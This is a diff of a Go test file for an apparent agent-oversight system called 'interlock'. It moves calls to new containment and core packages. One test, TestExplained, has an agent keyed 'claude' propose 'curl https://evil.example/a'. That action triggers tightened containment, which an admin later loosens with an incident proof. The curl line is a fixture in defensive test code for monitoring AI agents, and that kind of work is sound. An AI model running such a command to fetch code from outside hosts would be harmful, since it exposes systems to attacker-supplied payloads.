@@ -10,6 +10,8 @@ import (
 
 	"interlock"
 	"interlock/internal/admission"
+	"interlock/internal/admission/containment"
+	"interlock/internal/admission/core"
 	"interlock/internal/ledger"
 	"interlock/internal/phase"
 	"interlock/spec"
@@ -17,7 +19,7 @@ import (
 
 // watched has a house read its own log.
 func watched(c *admission.Config) {
-	if log, is := c.Store.(admission.Log); is {
+	if log, is := c.Store.(core.Log); is {
 		c.Log = log
 	}
 }
@@ -97,7 +99,7 @@ func TestTwoWhoLook(t *testing.T) {
 	if p := rows[0].Value.(ledger.ProfileBody); p.Slots() < 13 || p.Slots() > 16 {
 		t.Errorf("%d slots are known", p.Slots())
 	}
-	all, err := admission.Profiles(t.Context(), h.store, h.store)
+	all, err := containment.Profiles(t.Context(), h.store, h.store)
 	if err != nil || len(all) != 1 || all[0].Slots() != 16 || all[0].Days[0].Of[0].Sum != 48 {
 		t.Errorf("%+v, %v", all, err)
 	}
@@ -193,12 +195,12 @@ func TestExplained(t *testing.T) {
 	h.employ("adam", "admin")
 	h.works(14)
 	h.propose("curl https://evil.example/a")
-	h.tighten(admission.Tightening{Scope: ledger.HoldAgent, Key: "claude", To: phase.Alternate, Trigger: phase.TriggerSignal, Why: "odd"})
+	h.tighten(containment.Tightening{Scope: ledger.HoldAgent, Key: "claude", To: phase.Alternate, Trigger: phase.TriggerSignal, Why: "odd"})
 	if err := h.moves(interlock.VerbLoosenPhase, "agent:claude", "P proof=INC-7", "adam"); err != nil {
 		t.Fatal(err)
 	}
 	h.look()
-	all, err := admission.Profiles(t.Context(), h.store, h.store)
+	all, err := containment.Profiles(t.Context(), h.store, h.store)
 	if err != nil || len(all) != 1 || all[0].Slots() > 1 {
 		t.Errorf("%+v, %v", all, err)
 	}
